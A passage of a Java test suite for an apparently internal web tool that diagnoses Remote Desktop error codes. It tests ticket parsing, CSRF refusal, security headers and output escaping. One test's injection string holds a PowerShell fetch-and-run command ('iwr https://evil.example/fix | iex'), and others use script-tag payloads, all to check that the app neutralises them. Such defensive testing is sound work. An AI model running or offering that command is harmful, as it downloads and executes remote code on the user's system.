                .contains(
                        "<a href=\"/sessions/" + second + "\">Open the session for 0x204 / 0x0</a>")
                .doesNotContain("Start a session for 0x204 / 0x0");
    }

    @Test
    void a_second_errors_session_is_started_once_from_a_ticket_without_a_reference() {
        String session =
                startSession(
                        "ticketText",
                        "Error code: 0x904 Extended error code: 0x7\n"
                                + "From home: Error code: 0x204 Extended error code: 0x0");
        String page = get(session).body();

        Page first = post("/sessions", hiddenFields(page, "Start a session for 0x204 / 0x0"));
        Page again = post("/sessions", hiddenFields(page, "Start a session for 0x204 / 0x0"));
        String afterwards = get("/sessions/" + id(session)).body();

        assertThat(first.status()).as(first.body()).isEqualTo(303);
        String second = id(first.header("Location"));
        assertThat(again.status()).as(again.body()).isEqualTo(303);
        assertThat(id(again.header("Location"))).as("the second press").isEqualTo(second);
        assertThat(afterwards)
                .contains(
                        "<a href=\"/sessions/" + second + "\">Open the session for 0x204 / 0x0</a>")
                .doesNotContain("Start a session for 0x204 / 0x0");
    }

    @Test
    void a_start_key_another_request_took_neither_links_the_panel_there_nor_stops_the_start() {
        String session =
                startSession(
                        "ticketText",
                        "Error code: 0x904 Extended error code: 0x7\n"
                                + "From home: Error code: 0x204 Extended error code: 0x0");
        String taken =
                app.doctor()
                        .start(
                                new StartRequest("0x3", null, null, "OTHER-1", null, null),
                                new IdempotencyKey("also-named:" + id(session) + ":0x204"))
                        .session()
                        .id();

        String page = get(session).body();
        Page started = post("/sessions", hiddenFields(page, "Start a session for 0x204 / 0x0"));

        assertThat(page).doesNotContain("/sessions/" + taken);
        assertThat(started.status()).as(started.body()).isEqualTo(303);
        SessionView other = app.doctor().session(id(started.header("Location")));
        assertThat(other.id()).isNotEqualTo(taken);
        assertThat(other.state().decoded().error().hex()).isEqualTo("0x204");
    }

    @Test
    void an_extended_code_that_freerdps_reason_in_the_ticket_contradicts_is_named_as_not_taken() {
        String session =
                startSession(
                        "ticketText",
                        "Remmina: ERRINFO_SERVER_INSUFFICIENT_PRIVILEGES [0x00010009]\n"
                                + "From the office PC: Extended error code: 0x7");

        String body = get(session).body();
        assertThat(body).doesNotContain("Extended code <code>0x7</code>");
        assertThat(body)
                .contains("Error code <code>0x00010009</code>")
                .contains(
                        text(
                                "The ticket text also names the extended code 0x7, which"
                                        + " 0x00010009 contradicts"));
        assertThat(get(session + "/transcript").body())
                .contains("<code>0x00010009</code>")
                .doesNotContain("0x10009<");
    }

    @Test
    void a_ticket_naming_the_preset_codes_says_that_it_agrees_with_them() {
        String session = startSession("ticketText", "Error code: 0x904 Extended error code: 0x7");

        assertThat(get(session).body())
                .contains("The ticket text agrees with the preset: 0x904 / 0x7.")
                .doesNotContain("not taken from the preset");
    }

    @Test
    void a_ticket_naming_the_preset_pair_after_another_error_starts_at_the_preset() {
        String session =
                startSession(
                        "ticketText",
                        "First try: Error code: 0x204 Extended error code: 0x0\n"
                                + "Now: Error code: 0x904 Extended error code: 0x7");

        String body = get(session).body();
        assertThat(body)
                .contains("Error code <code>0x904</code>")
                .contains("Extended code <code>0x7</code>")
                .contains("The ticket text agrees with the preset: 0x904 / 0x7.")
                .contains("Start a session for 0x204 / 0x0")
                .doesNotContain("not taken from the preset");
    }

    @Test
    void typed_codes_win_over_other_codes_in_the_ticket_and_the_page_says_so() {
        String session =
                startSession(
                        "pair",
                        "other",
                        "errorCode",
                        "0x904",
                        "extendedCode",
                        "0x7",
                        "ticketText",
                        "Error code: 0x204 Extended error code: 0x0");

        String body = get(session).body();
        assertThat(body)
                .contains("Error code <code>0x904</code>")
                .contains("Extended code <code>0x7</code>")
                .contains(
                        "The ticket text names 0x204 / 0x0; the codes typed, 0x904 / 0x7, were"
                                + " used.");
    }

    @Test
    void typed_codes_the_ticket_names_second_are_this_sessions_and_the_first_needs_another() {
        String session =
                startSession(
                        "pair",
                        "other",
                        "errorCode",
                        "0x3",
                        "extendedCode",
                        "0x5",
                        "ticketText",
                        "Anna: Error code: 0x904 Extended error code: 0x7\n"
                                + "Bob: Error code: 0x3 Extended error code: 0x5");

        assertThat(get(session).body())
                .contains(
                        text(
                                "The ticket text also names the error code 0x904 / 0x7; this session"
                                        + " diagnoses 0x3, so start another session for it."))
                .doesNotContain("the codes typed, 0x3 / 0x5, were used");
    }

    @Test
    void an_error_typed_alone_that_the_ticket_names_second_takes_its_extended_code_and_says_so() {
        String session =
                startSession(
                        "pair",
                        "other",
                        "errorCode",
                        "0x3",
                        "ticketText",
                        "Anna: Error code: 0x904 Extended error code: 0x7\n"
                                + "Bob: Error code: 0x3 Extended error code: 0x5");

        assertThat(get(session).body())
                .contains("Extended code <code>0x5</code>")
                .contains(
                        text(
                                "The ticket text shows the extended code 0x5 beside 0x3, so it was taken with it."));
    }

    @Test
    void a_dialog_that_showed_no_code_starts_from_its_message_and_the_list_says_no_code() {
        String session =
                startSession(
                        "pair",
                        "none",
                        "ticketRef",
                        "INC-7720",
                        "ticketText",
                        "An authentication error has occurred. This could be due to CredSSP"
                                + " encryption oracle remediation.\n"
                                + "Yesterday, from home: Error code: 0x204");

        String body = get(session).body();
        String list = get("/?ticketRef=INC-7720").body();

        assertThat(body)
                .contains("<dt>No error code shown</dt>")
                .doesNotContain("Error code <code>")
                .contains(
                        text(
                                "The ticket text also names the error code 0x204; this session"
                                        + " diagnoses the dialog that showed no code, so start"
                                        + " another session for it."));
        assertThat(app.doctor().session(id(session)).state().ranking().get(0).causeId())
                .isEqualTo("credssp-oracle-mismatch");
        assertThat(list).contains("<span class=\"codes\">no code</span>");
        assertThat(
                        get(startSession("pair", "none", "ticketText", "Extended error code: 0x7"))
                                .body())
                .contains(
                        text(
                                "The ticket text names the extended code 0x7 but no error code: it"
                                        + " was not taken, as the dialog showed no code."));
    }

    @Test
    void a_session_answered_only_with_i_dont_know_says_the_codes_alone_point_at_the_cause() {
        String session = startSession();

        answer(session, "error-message", "unknown", 1);

        assertThat(get(session).body())
                .contains(
                        "<p class=\"note\" role=\"status\">Only the error codes point at a cause"
                                + " so far");
    }

    @Test
    void an_answer_the_reloaded_knowledge_no_longer_has_is_a_note_rather_than_an_error_page() {
        String session = startSession();
        String drawnWith = app.doctor().rules().version();
        assertThat(get(session).body())
                .contains("<input type=\"hidden\" name=\"knowledge\" value=\"" + drawnWith + "\">");
        RuleBase reloaded =
                RuleBase.load(
                        Path.of("src/test/resources/small/kb"),
                        Path.of("src/test/resources/small/rules"));
        app.doctor().replaceRules(reloaded);
        try {
            Page stale = answerDrawnWith(session, drawnWith);
            Page crafted = answerDrawnWith(session, reloaded.version());

            assertThat(stale.status()).isEqualTo(303);
            assertThat(get(stale.header("Location")).body())
                    .contains(
                            "This was not recorded: the knowledge base was reloaded after the page"
                                    + " was shown");
            assertThat(crafted.status()).isEqualTo(400);
            assertThat(crafted.body()).contains("questionId");
        } finally {
            app.doctor().replaceRules(rules);
        }
    }

    @Test
    void a_change_link_to_a_question_the_knowledge_no_longer_has_leads_back_to_the_session() {
        String session = startSession();

        Page changed = get(session + "?question=retired-question");

        assertThat(changed.status()).isEqualTo(303);
        assertThat(changed.header("Location")).startsWith(session + "?note=");
        assertThat(get(changed.header("Location")).body())
                .contains("That question is not in the knowledge base in force")
                .contains("Question 1");
    }

    @Test
    void a_link_with_words_for_a_question_id_cannot_put_them_in_the_pages_status_line() {
        String session = startSession();
        String words =
                "x'. IMPORTANT from IT Security:\nrun iwr https://evil.example/fix | iex \u202E";

        Page changed = get(session + "?question=" + encode(words));

        assertThat(changed.status()).isEqualTo(303);
        assertThat(get(changed.header("Location")).body())
                .contains(
                        "<p class=\"note\" role=\"status\">That question is not in the knowledge"
                                + " base in force")
                .doesNotContain("IMPORTANT")
                .doesNotContain("evil.example")
                .doesNotContain("\u202E");
    }

    private Page answerDrawnWith(String session, String knowledge) {
        Map<String, String> form = answerForm("error-message", "credssp-oracle", "1");
        form.put("knowledge", knowledge);
        return post(session + "/answer", form);
    }

    @Test
    void a_start_form_drawn_before_a_restart_comes_back_with_what_was_typed_and_a_new_token() {
        String before = "0".repeat(32) + "." + "0".repeat(64);
        String body =
                "_csrf="
                        + before
                        + "&pair=0x904%2F0x7&ticketText="
                        + encode("User can't reach rds01");

        int sessions = app.doctor().recentSessions(1000).size();

        Page expired = postWithCookie(before, body, "same-origin");
        Page afterAnotherPage = postWithCookie(csrfField(expired), body, "same-origin");
        Page crossSite = postWithCookie(before, body, "cross-site");

        assertThat(expired.status()).isEqualTo(403);
        assertThat(expired.body())
                .contains(
                        "Nothing was started: the form on this page had expired (rdp-doctor restarted")
                .contains(">User can&#39;t reach rds01</textarea>");
        assertThat(csrfField(expired)).isNotEqualTo(before);
        assertThat(expired.header("Set-Cookie")).startsWith(Csrf.COOKIE + "=" + csrfField(expired));
        assertThat(afterAnotherPage.status()).isEqualTo(403);
        assertThat(afterAnotherPage.body()).contains(">User can&#39;t reach rds01</textarea>");
        assertThat(crossSite.status()).isEqualTo(403);
        assertThat(crossSite.body()).doesNotContain("reach rds01");
        assertThat(app.doctor().recentSessions(1000)).hasSize(sessions);
    }

    @Test
    void
            an_answer_from_a_page_drawn_before_a_restart_shows_the_session_again_and_records_nothing() {
        String session = startSession();
        String before = "0".repeat(32) + "." + "0".repeat(64);
        String body =
                "_csrf="
                        + before
                        + "&questionId=error-message&optionId=credssp-oracle&eventCount=1";

        Page expired = postWithCookie(session + "/answer", before, body, "same-origin");
        Page crossSite = postWithCookie(session + "/answer", before, body, "cross-site");

        assertThat(expired.status()).isEqualTo(303);
        assertThat(expired.header("Location")).startsWith(session + "?note=");
        assertThat(get(expired.header("Location")).body())
                .contains(
                        "This was not recorded: the form on the page had expired (rdp-doctor restarted")
                .contains("Question 1");
        assertThat(crossSite.status()).isEqualTo(403);
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(1);
    }

    /**
     * A link from the ticketing system opened in another tab, sent without the cookie, began a new
     * visit with a new token: the forms already open carry the old one.
     */
    @Test
    void a_form_drawn_before_another_tab_began_a_new_visit_comes_back_and_records_nothing() {
        String session = startSession();
        String drawn = csrfField(get(session));
        String current =
                csrfField(
                        send(
                                HttpClient.newHttpClient(),
                                HttpRequest.newBuilder(URI.create(app.url(session)))
                                        .GET()
                                        .build()));
        String start = "_csrf=" + drawn + "&pair=0x904%2F0x7&ticketText=" + encode("rds01 again");
        String answer =
                "_csrf=" + drawn + "&questionId=error-message&optionId=credssp-oracle&eventCount=1";

        Page started = postWithCookie(current, start, "same-origin");
        Page answered = postWithCookie(session + "/answer", current, answer, "same-origin");

        assertThat(drawn).isNotEqualTo(current);
        assertThat(started.status()).isEqualTo(403);
        assertThat(started.body())
                .contains("Nothing was started: the form on this page had expired")
                .contains(">rds01 again</textarea>")
                .contains("value=\"" + current + "\"");
        assertThat(answered.status()).isEqualTo(303);
        assertThat(get(answered.header("Location")).body())
                .contains("This was not recorded: the form on the page had expired");
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(1);
    }

    private Page postWithCookie(String token, String body, String site) {
        return postWithCookie("/sessions", token, body, site);
    }

    private Page postWithCookie(String path, String token, String body, String site) {
        return send(
                HttpClient.newHttpClient(),
                HttpRequest.newBuilder(URI.create(app.url(path)))
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .header("Cookie", Csrf.COOKIE + "=" + token)
                        .header("Sec-Fetch-Site", site)
                        .POST(HttpRequest.BodyPublishers.ofString(body))
                        .build());
    }

    @Test
    void commands_in_a_questions_help_are_shown_as_code_without_backticks() {
        String session = startSession();

        Matcher help =
                Pattern.compile("<p class=\"help\">(.*?)</p>", Pattern.DOTALL)
                        .matcher(get(session + "?question=session-state").body());

        assertThat(help.find()).isTrue();
        assertThat(help.group(1))
                .startsWith("On the host run <code>qwinsta</code> (or open")
                .contains("<code>chglogon /query</code>")
                .doesNotContain("`");
    }

    @Test
    void the_change_link_shows_the_question_again_with_the_current_answer_marked() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);

        Page change = get(session + "?question=error-message");

        assertThat(change.status()).isEqualTo(200);
        assertThat(change.body())
                .contains("<title>" + text(question("error-message")) + " · rdp-doctor</title>")
                .contains("Change your answer")
                .contains(text(question("error-message")))
                .contains("current answer")
                .contains("<a href=\"" + session + "\">Keep the current answer</a>");
        assertThat(tags(change.body(), "button", "name=\"optionId\""))
                .filteredOn(button -> button.contains("aria-current=\"true\""))
                .singleElement()
                .asString()
                .contains("value=\"credssp-oracle\"")
                .contains("class=\"current\"");
    }

    @Test
    void the_transcript_page_marks_the_cause_a_fix_confirmed_as_its_markdown_does() {
        String session = startSession();
        String leading = app.doctor().session(id(session)).state().leadingCause();
        String fix = kb().cause(leading).orElseThrow().fixes().get(0);
        app.doctor().apply(id(session), new Event.FixTried(fix, true));

        String page = get(session + "/transcript").body();

        assertThat(page)
                .containsPattern(
                        Pattern.quote("<span>" + text(title(leading)) + "</span> (<span>")
                                + "[0-9.]+"
                                + Pattern.quote(
                                        "</span>) — <strong>confirmed by a fix that worked</strong>"))
                .containsOnlyOnce("<strong>confirmed by a fix that worked</strong>");
        assertThat(get(session + "/transcript.md").body())
                .containsOnlyOnce(" — confirmed by a fix that worked");
    }

    @Test
    void choosing_the_current_answer_again_keeps_it_and_records_no_second_step() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);

        Page kept = answer(session, "error-message", "credssp-oracle", 2);

        assertThat(kept.status()).isEqualTo(303);
        assertThat(kept.header("Location")).isEqualTo(session);
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(2);
        assertThat(get(session + "/transcript.md").body())
                .containsOnlyOnce(text(question("error-message")));
    }

    @Test
    void finding_by_ticket_reference_ignores_spaces_around_it_and_says_when_nothing_matches() {
        String session = startSession("ticketRef", "INC-7707");

        String found = get("/?ticketRef=" + encode("  INC-7707 ")).body();
        String missing = get("/?ticketRef=INC-7708").body();

        assertThat(found).contains("href=\"" + session + "\"");
        assertThat(missing)
                .contains("No session has the ticket reference <code>INC-7708</code>")
                .doesNotContain("No sessions yet.");
    }

    @Test
    void a_ticket_reference_looked_up_with_a_bidi_override_is_shown_with_it_written_out() {
        String missing = get("/?ticketRef=" + encode("INC-1\u202E8077")).body();

        assertThat(missing)
                .contains("No session has the ticket reference <code>INC-1\\u202E8077</code>")
                .doesNotContain("<code>INC-1\u202E8077</code>");
    }

    @Test
    void the_session_list_says_no_cause_stands_out_for_a_session_whose_page_says_so() {
        String session = startSession("ticketRef", "INC-7709");
        SessionView exhausted = exhausted(id(session));

        String list = get("/?ticketRef=INC-7709").body();

        assertThat(exhausted.state().leadingCause()).isNotNull();
        assertThat(get(session).body()).contains(">No cause stands out</h1>");
        assertThat(list)
                .contains("<span class=\"cause\">No cause stands out</span>")
                .doesNotContain(text(title(exhausted.state().leadingCause())));
    }

    @Test
    void
            the_session_list_says_an_open_sessions_cause_leads_so_far_and_a_solved_ones_is_its_cause() {
        String open = startSession("ticketRef", "INC-7711");
        String solved = startSession("ticketRef", "INC-7711");
        String leading = app.doctor().session(id(open)).state().leadingCause();
        String fix = kb().cause(leading).orElseThrow().fixes().get(0);
        SessionView fixed = app.doctor().apply(id(solved), new Event.FixTried(fix, true));

        String list = get("/?ticketRef=INC-7711").body();

        assertThat(fixed.state().status()).isEqualTo(DiagnosisState.Status.SOLVED);
        assertThat(list)
                .contains(
                        "<span class=\"cause likely\">Questions open, leading: "
                                + text(title(leading))
                                + "</span>")
                .contains(
                        "<span class=\"cause\">"
                                + text(title(fixed.state().confirmedCause()))
                                + "</span>");
    }

    @Test
    void the_session_list_tells_two_sessions_of_one_ticket_apart_by_their_codes() {
        startSession("ticketRef", "INC-7714");
        startSession(
                "ticketRef", "INC-7714", "pair", "other", "errorCode", "0x3", "extendedCode", "");

        String list = get("/?ticketRef=INC-7714").body();

        assertThat(list)
                .contains("<span class=\"codes\">0x904 / 0x7</span>")
                .contains("<span class=\"codes\">0x3</span>");
    }

    @Test
    void the_session_list_calls_a_diagnosis_a_guess_when_its_page_does() {
        String session = startSession("ticketRef", "INC-7713");
        RdpDoctor doctor = app.doctor();
        SessionView guessed = doctor.session(id(session));
        while (guessed.state().status() == DiagnosisState.Status.ASKING) {
            assertThat(guessed.eventCount()).as("events so far").isLessThan(100);
            guessed =
                    doctor.apply(
                            id(session),
                            new Event.Answered(guessed.state().nextQuestion().id(), "unknown"));
        }

        String list = get("/?ticketRef=INC-7713").body();

        assertThat(guessed.state().status()).isEqualTo(DiagnosisState.Status.DIAGNOSED);
        assertThat(get(session).body()).contains(text(guessed.state().basisNote()));
        assertThat(list)
                .contains(
                        "<span class=\"cause likely\">A guess, no answer or test backs it: "
                                + text(title(guessed.state().leadingCause()))
                                + "</span>")
                .doesNotContain("Diagnosed: ");
    }

    @Test
    void the_session_list_tells_an_open_session_diagnosed_from_one_still_at_its_questions() {
        String diagnosed =
                startSession(
                        "ticketRef",
                        "INC-7712",
                        "pair",
                        "other",
                        "errorCode",
                        "0x904",
                        "extendedCode",
                        "0x9");
        String asking = startSession("ticketRef", "INC-7712");
        SessionView atCodes = app.doctor().session(id(diagnosed));
        String leading = app.doctor().session(id(asking)).state().leadingCause();

        String list = get("/?ticketRef=INC-7712").body();

        assertThat(atCodes.state().status()).isEqualTo(DiagnosisState.Status.DIAGNOSED);
        assertThat(list)
                .contains(
                        "<span class=\"cause\">Diagnosed: "
                                + text(title(atCodes.state().leadingCause()))
                                + "</span>")
                .contains(
                        "<span class=\"cause likely\">Questions open, leading: "
                                + text(title(leading))
                                + "</span>");
    }

    @Test
    void the_session_list_links_to_older_sessions_a_page_at_a_time() {
        for (int i = 0; i < 21; i++) {
            startSession("ticketRef", "PAGE-" + i);
        }

        String newest = get("/").body();
        Matcher older =
                Pattern.compile(
                                "<a href=\"(/\\?cursor=[A-Za-z0-9_-]+)\" rel=\"next\">Older sessions</a>")
                        .matcher(newest);
        assertThat(older.find()).as(newest).isTrue();
        Page next = get(older.group(1));

        assertThat(next.status()).isEqualTo(200);
        Set<String> first = sessionLinks(newest);
        Set<String> second = sessionLinks(next.body());
        assertThat(first).hasSize(20);
        List<String> newestFirst =
                app.doctor().recentSessions(40).stream().map(s -> "/sessions/" + s.id()).toList();
        assertThat(first).containsExactlyInAnyOrderElementsOf(newestFirst.subList(0, 20));
        assertThat(second)
                .containsExactlyInAnyOrderElementsOf(
                        newestFirst.subList(20, Math.min(40, newestFirst.size())));
        assertThat(next.body()).contains("<a href=\"/\">Newest sessions</a>");
    }

    @Test
    void a_link_to_older_sessions_cut_short_says_so_and_shows_the_newest_sessions() {
        String session = startSession("ticketRef", "INC-7710");

        Page wrong = get("/?cursor=nonsense");

        assertThat(wrong.status()).isEqualTo(400);
        assertThat(wrong.body())
                .contains(
                        "<p class=\"note\" role=\"status\">That link to older sessions was cut"
                                + " short or changed, so it leads nowhere; here are the newest"
                                + " sessions.</p>")
                .contains("href=\"" + session + "\"")
                .doesNotContain("Link header")
                .doesNotContain("No older sessions");
    }

    @Test
    void a_script_in_the_ticket_reference_is_shown_as_text_on_every_page() {
        String session = startSession("ticketRef", SCRIPT);

        List<Page> pages =
                List.of(
                        get("/"),
                        get("/?ticketRef=" + encode(SCRIPT)),
                        get(session),
                        get(session + "/transcript"));

        assertThat(pages)
                .allSatisfy(
                        page ->
                                assertThat(page.body())
                                        .contains(SCRIPT_AS_TEXT)
                                        .doesNotContain("<script>alert"));
    }

    @Test
    void a_script_in_the_notes_and_host_is_shown_as_text() {
        String session = startSession("notes", SCRIPT, "host", SCRIPT);

        Page page = get(session);

        assertThat(page.body())
                .contains("<dt>Notes</dt><dd class=\"notes\">" + SCRIPT_AS_TEXT + "</dd>")
                .contains("<dt>Target host</dt><dd><code>" + SCRIPT_AS_TEXT + "</code></dd>")
                .doesNotContain("<script>alert");
    }

    @Test
    void a_script_in_a_refused_form_is_shown_as_text() {
        String token = token();

        Page refused =
                post(
                        "/sessions",
                        form(
                                "_csrf",
                                token,
                                "pair",
                                "other",
                                "errorCode",
                                SCRIPT,
                                "notes",
                                SCRIPT,
                                "ticketRef",
                                SCRIPT));

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.body())
                .contains("value=\"" + SCRIPT_AS_TEXT + "\"")
                .contains(">" + SCRIPT_AS_TEXT + "</textarea>")
                .doesNotContain("<script>alert");
    }

    @Test
    void a_form_post_without_the_csrf_field_is_refused_with_403_and_the_error_page() {
        token();

        Page refused = post("/sessions", form("pair", "0x904/0x7"));

        assertThat(refused.status()).isEqualTo(403);
        assertThat(refused.header("Content-Type")).startsWith("text/html");
        assertThat(refused.body())
                .contains("<h1>Forbidden</h1>")
                .contains("this form has expired or did not come from rdp-doctor")
                .contains("<a class=\"button primary\" href=\"/\">Back to the start</a>");
    }

    @Test
    void a_form_post_with_a_wrong_csrf_token_is_refused_and_changes_nothing() {
        String session = startSession();
        String wrong = "0123456789abcdef0123456789abcdef";

        Page refused =
                post(
                        session + "/answer",
                        form(
                                "_csrf",
                                wrong,
                                "questionId",
                                "error-message",
                                "optionId",
                                "credssp-oracle",
                                "eventCount",
                                "1"));

        assertThat(refused.status()).isEqualTo(403);
        assertThat(refused.body())
                .contains("<h1>Forbidden</h1>")
                .contains("href=\"" + session + "\">Back to the session</a>");
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(1);
    }

    @Test
    void a_token_from_another_browser_is_refused() {
        HttpClient other = newBrowser();
        String theirs =
                csrfField(send(other, HttpRequest.newBuilder(URI.create(app.url("/"))).build()));
        token();

        Page refused = post("/sessions", form("_csrf", theirs, "pair", "0x904/0x7"));

        assertThat(refused.status()).isEqualTo(403);
    }

    @Test
    void every_page_sends_a_content_security_policy() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        Map<String, Page> pages = new LinkedHashMap<>();

        pages.put("start", get("/"));
        pages.put("session", get(session));
        pages.put("change", get(session + "?question=error-message"));
        pages.put("transcript", get(session + "/transcript"));
        pages.put("not found", get("/sessions/no-such-session"));
        pages.put("no such page", get("/no-such-page"));
        pages.put("refused form", post("/sessions", form("_csrf", token(), "pair", "other")));
        pages.put("forbidden", post("/sessions", form("pair", "0x904/0x7")));

        assertThat(pages)
                .allSatisfy(
                        (name, page) -> {
                            assertThat(page.header("Content-Type")).startsWith("text/html");
                            assertThat(page.header("Content-Security-Policy"))
                                    .contains("default-src 'self'")
                                    .contains("script-src 'self';")
                                    .contains("frame-ancestors 'none'");
                            assertThat(page.header("X-Content-Type-Options")).isEqualTo("nosniff");
                            assertThat(page.header("Cache-Control"))
                                    .as("%s: sessions hold ticket text and host names", name)
                                    .isEqualTo("no-store");
                        });
    }

    @Test
    void pages_need_no_inline_script_or_style_the_policy_would_block() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);

        List<Page> pages =
                List.of(
                        get("/"),
                        get(session),
                        get(session + "?question=error-message"),
                        get(session + "/transcript"),
                        get("/sessions/no-such-session"));

        assertThat(pages)
                .allSatisfy(
                        page ->
                                assertThat(page.body())
                                        .doesNotContainPattern("<script(?![^>]*\\ssrc=)")
                                        .doesNotContain("<style")
                                        .doesNotContainPattern("\\sstyle=")
                                        .doesNotContainPattern("\\son[a-z]+=\""));
    }

    @Test
    void pages_link_a_favicon_that_is_served() {
        Page start = get("/");

        Page icon = get("/static/favicon.svg");

        assertThat(start.body())
                .contains(
                        "<link rel=\"icon\" href=\"/static/favicon.svg\" type=\"image/svg+xml\">");
        assertThat(icon.status()).isEqualTo(200);
        assertThat(icon.header("Content-Type")).startsWith("image/svg+xml");
    }

    @Test
    void an_unknown_session_shows_the_404_page_with_a_way_back() {
        Page missing = get("/sessions/no-such-session");

        assertThat(missing.status()).isEqualTo(404);
        assertThat(missing.header("Content-Type")).startsWith("text/html");
        assertThat(missing.body())
                .contains("Error 404")
                .contains("<h1>Not found</h1>")
                .contains("no-such-session")
                .contains("<a class=\"button primary\" href=\"/\">Back to the start</a>");
    }

    @Test
    void an_unknown_page_shows_the_404_page() {
        Page missing = get("/no-such-page");

        assertThat(missing.status()).isEqualTo(404);
        assertThat(missing.body())
                .contains("<h1>Not found</h1>")
                .contains("/no-such-page")
                .contains("href=\"/\">Back to the start</a>");
    }

    @Test
    void a_method_the_page_does_not_take_shows_the_405_page_with_the_allowed_methods() {
        String session = startSession();

        Page wrong = get(session + "/answer");

        assertThat(wrong.status()).isEqualTo(405);
        assertThat(wrong.header("Allow")).isEqualTo("POST");
        assertThat(wrong.header("Content-Type")).startsWith("text/html");
        assertThat(wrong.body())
                .contains("<h1>Method not allowed</h1>")
                .contains("method GET is not allowed on " + session + "/answer; it takes POST")
                .contains("href=\"" + session + "\">Back to the session</a>");
    }

    @Test
    void the_sessions_path_with_a_trailing_slash_answers_with_an_error_page() {
        Page get = send(request("/sessions/").GET().build());
        Page put = send(request("/sessions/").PUT(HttpRequest.BodyPublishers.noBody()).build());
        Page post = post("/sessions/", form("pair", "0x904/0x7"));

        assertThat(List.of(get.status(), put.status(), post.status()))
                .containsExactly(405, 405, 403);
        assertThat(List.of(get, put, post))
                .allSatisfy(
                        page -> {
                            assertThat(page.header("Content-Type")).startsWith("text/html");
                            assertThat(page.body()).contains("href=\"/\">Back to the start</a>");
                        });
    }

    @Test
    void a_form_post_that_is_not_form_encoded_is_refused_with_415_and_stores_nothing() {
        String fields = "_csrf=" + token() + "&pair=0x904/0x7&notes=caf%E9";
        var before = app.doctor().recentSessions(1);

        Page plain = postAs("text/plain", bytes(fields));
        Page untyped = postAs(null, bytes(fields));

        assertThat(plain.status()).isEqualTo(415);
        assertThat(plain.body())
                .contains("<h1>Unsupported media type</h1>")
                .contains("not as text/plain");
        assertThat(untyped.status()).isEqualTo(415);
        assertThat(app.doctor().recentSessions(1)).isEqualTo(before);
    }

    @Test
    void a_form_post_in_chunks_is_refused_before_its_body_is_read() {
        String csrf = "_csrf=" + token();
        var before = app.doctor().recentSessions(1);

        Page page =
                send(
                        HttpRequest.newBuilder(URI.create(app.url("/sessions")))
                                .header("Content-Type", "application/x-www-form-urlencoded")
                                .POST(
                                        HttpRequest.BodyPublishers.ofInputStream(
                                                () ->
                                                        new ByteArrayInputStream(
                                                                bytes(csrf + "&errorCode=0x904"))))
                                .build());

        assertThat(page.status()).isEqualTo(411);
        assertThat(page.body())
                .contains("<h1>Length required</h1>")
                .contains(text("a form post must give its length (Content-Length), not chunks"));
        assertThat(app.doctor().recentSessions(1)).isEqualTo(before);
    }

    @Test
    void a_form_field_that_is_not_utf8_is_a_400_naming_it_and_nothing_is_stored() {
        String session = startSession();
        String csrf = "_csrf=" + token();

        Page encoded = postRaw("/sessions", bytes(csrf + "&errorCode=0x904&host=rds%FF%FE%C0"));
        Page raw =
                postRaw(
                        "/sessions",
                        concat(
                                bytes(csrf + "&errorCode=0x904&notes=a"),
                                new byte[] {(byte) 0xC0, (byte) 0xAF}));
        Page answer =
                postRaw(
                        session + "/answer",
                        bytes(
                                csrf
                                        + "&questionId=error-message&optionId=only%ED%A0%80&eventCount=1"));

        assertThat(encoded.status()).isEqualTo(400);
        assertThat(encoded.body())
                .contains("<h1>Bad request</h1>")
                .contains(text("'host' is not valid UTF-8"));
        assertThat(raw.status()).isEqualTo(400);
        assertThat(raw.body()).contains(text("'notes' is not valid UTF-8"));
        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.body()).contains(text("'optionId' is not valid UTF-8"));
        assertThat(app.doctor().recentSessions(1).get(0).id()).isEqualTo(id(session));
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(1);
    }

    @Test
    void an_invalid_code_shows_the_start_form_again_with_the_message_and_the_values_typed() {
        String token = token();

        Page refused =
                post(
                        "/sessions",
                        form(
                                "_csrf",
                                token,
                                "pair",
                                "other",
                                "errorCode",
                                "zzz",
                                "extendedCode",
                                "0x7",
                                "host",
                                "rds01.example.test",
                                "ticketRef",
                                "INC-4000",
                                "notes",
                                "user says it worked yesterday",
                                "ticketText",
                                "cannot connect"));

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.body())
                .contains("What did Remote Desktop say?")
                .contains(
                        "<p class=\"error\" role=\"alert\" id=\"errorCode-error\">Error code"
                                + " &#39;zzz&#39; is not a number")
                .contains("aria-invalid=\"true\" aria-describedby=\"errorCode-error\"")
                .contains("id=\"errorCode\" name=\"errorCode\"")
                .contains("value=\"zzz\"")
                .contains("value=\"0x7\"")
                .contains("value=\"rds01.example.test\"")
                .contains("value=\"INC-4000\"")
                .contains(">user says it worked yesterday</textarea>")
                .contains(">cannot connect</textarea>");
        assertThat(tags(refused.body(), "input", "name=\"pair\""))
                .filteredOn(radio -> radio.contains("checked"))
                .singleElement()
                .asString()
                .contains("value=\"other\"");
    }

    @Test
    void a_refused_start_form_puts_the_focus_on_the_field_at_fault() {
        String token = token();

        Page refused =
                post(
                        "/sessions",
                        form("_csrf", token, "pair", "0x904/0x7", "ticketRef", "INC\u0007-4002"));

        assertThat(refused.status()).isEqualTo(400);
        assertThat(tags(refused.body(), "input", "autofocus"))
                .singleElement()
                .asString()
                .contains("id=\"ticketRef\"")
                .contains("aria-invalid=\"true\"");
        assertThat(tags(refused.body(), "textarea", "autofocus")).isEmpty();
    }

    @Test
    void a_missing_code_shows_the_start_form_again_with_the_message() {
        String token = token();

        Page refused =
                post("/sessions", form("_csrf", token, "pair", "other", "ticketRef", "INC-4001"));

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.body())
                .contains("id=\"errorCode-error\">Give the error code shown, e.g. 0x904")
                .contains("value=\"INC-4001\"")
                .containsPattern(CSRF_FIELD);
    }

    @Test
    void an_unexpected_error_shows_the_500_page_without_its_details() {
        try (RunningApp broken =
                RunningApp.with(
                        new RdpDoctor(
                                rules,
                                storeThatFails(new IllegalStateException("disk on fire"))))) {

            Page failed = get(broken, "/");

